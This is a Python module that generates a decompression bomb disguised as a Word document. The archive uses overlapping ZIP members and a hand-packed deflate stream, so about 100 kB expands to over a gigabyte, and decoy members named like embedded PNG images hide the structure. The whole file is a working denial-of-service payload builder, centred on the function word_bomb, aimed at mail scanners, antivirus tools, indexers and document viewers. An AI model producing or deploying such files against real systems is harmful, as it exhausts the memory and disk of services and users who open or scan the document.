"""A Word file of some 100 kB that inflates to more than a gigabyte.

Every member but the last quotes the header of the next one in a stored block and then goes on
with that member's own data, so one run of spaces is counted again for each name (David Fifield,
"A better zip bomb", 2019). The deflate stream (RFC 1951) is written bit by bit: the result does
not depend on any build of zlib.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

_MATCH = 258
_MATCHES = 400_000
_CODE_LENGTH_ORDER = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
_DOCUMENT_START = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
    b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
)
_DOCUMENT_END = b"</w:t></w:r></w:p></w:body></w:document>"
_STORED, _DEFLATED = 0, 8


@dataclass(frozen=True, slots=True)
class _Member:
    """One name in the archive, its data as they lie in the file and what they become."""

    name: str
    method: int
    data: bytes
    checksum: int
    size: int

    def header(self) -> bytes:
        """The local file header (APPNOTE 4.3.7)."""
        return struct.pack("<4s", b"PK\x03\x04") + self._common() + self.name.encode()

    def entry(self, offset: int) -> bytes:
        """The entry of the central directory (APPNOTE 4.3.12)."""
        rest = struct.pack("<HHHII", 0, 0, 0, 0, offset)
        return struct.pack("<4sH", b"PK\x01\x02", 20) + self._common() + rest + self.name.encode()

    def _common(self) -> bytes:
        first_date = 0x21
        sizes = (self.checksum, len(self.data), self.size, len(self.name), 0)
        return struct.pack("<HHHHHIIIHH", 20, 0, self.method, 0, first_date, *sizes)


def word_bomb(parts: dict[str, bytes], copies: int) -> bytes:
    """The file: some small true parts, then ``word/document.xml`` counted ``copies`` times more."""
    true = [
        _Member(name, _STORED, part, zlib.crc32(part), len(part)) for name, part in parts.items()
    ]
    spaces = b" " * (1 + _MATCH * _MATCHES)
    content = _DOCUMENT_START + spaces + _DOCUMENT_END
    chain = [_Member("word/document.xml", _DEFLATED, _kernel(), zlib.crc32(content), len(content))]
    quoted = b""
    for number in range(copies):
        following = chain[0].header()
        quoted = following + quoted
        chain.insert(
            0,
            _Member(
                f"word/media/image{number + 1}.png",
                _DEFLATED,
                _stored_block(following) + chain[0].data,
                zlib.crc32(content, zlib.crc32(quoted)),
                len(quoted) + len(content),
            ),
        )
    return _archive(true, chain)


def _archive(true: list[_Member], chain: list[_Member]) -> bytes:
    body, directory = b"", b""
    for member in true:
        directory += member.entry(len(body))
        body += member.header() + member.data
    offset = len(body)
    for member in chain:
        directory += member.entry(offset)
        offset += len(member.header()) + len(_stored_block(b""))
    body += chain[0].header() + chain[0].data
    count = len(true) + len(chain)
    return (
        body
        + directory
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    )


def _stored_block(content: bytes, *, final: bool = False) -> bytes:
    """RFC 1951 3.2.4."""
    return struct.pack("<BHH", final, len(content), len(content) ^ 0xFFFF) + content


def _kernel() -> bytes:
    """The document as a deflate stream: its start, the run of spaces, its end."""
    bits = "0" + _number(2, 2) + _code_lengths()
    bits += "10" + "00" * _MATCHES + "11"  # a space; (length 258, distance 1)…; end of block
    bits += "0" + "00"  # an empty stored block, to come to the edge of a byte
    bits += "0" * (-len(bits) % 8)
    packed = int(bits[::-1], 2).to_bytes(len(bits) // 8, "little")
    empty = struct.pack("<HH", 0, 0xFFFF)
    end = _stored_block(_DOCUMENT_END, final=True)
    return _stored_block(_DOCUMENT_START) + packed + empty + end


def _code_lengths() -> str:
    """The header of a dynamic block with four symbols: space, end, length 258, distance 1."""
    lengths = {18: 1, 1: 2, 2: 2}
    counts = _number(286 - 257, 5) + _number(0, 5) + _number(len(_CODE_LENGTH_ORDER) - 4, 4)
    header = "".join(_number(lengths.get(symbol, 0), 3) for symbol in _CODE_LENGTH_ORDER)
    one, two = "10", "11"
    space = _zeros(32) + two
    end_of_block = _zeros(138) + _zeros(223 - 138) + two
    longest_match = _zeros(28) + one
    return counts + header + space + end_of_block + longest_match + one


def _zeros(count: int) -> str:
    """Symbol 18 of the code-length code: 11 to 138 lengths of zero."""
    return "0" + _number(count - 11, 7)


def _number(value: int, width: int) -> str:
    """A number as deflate packs it, least bit first."""
    return format(value, f"0{width}b")[::-1]
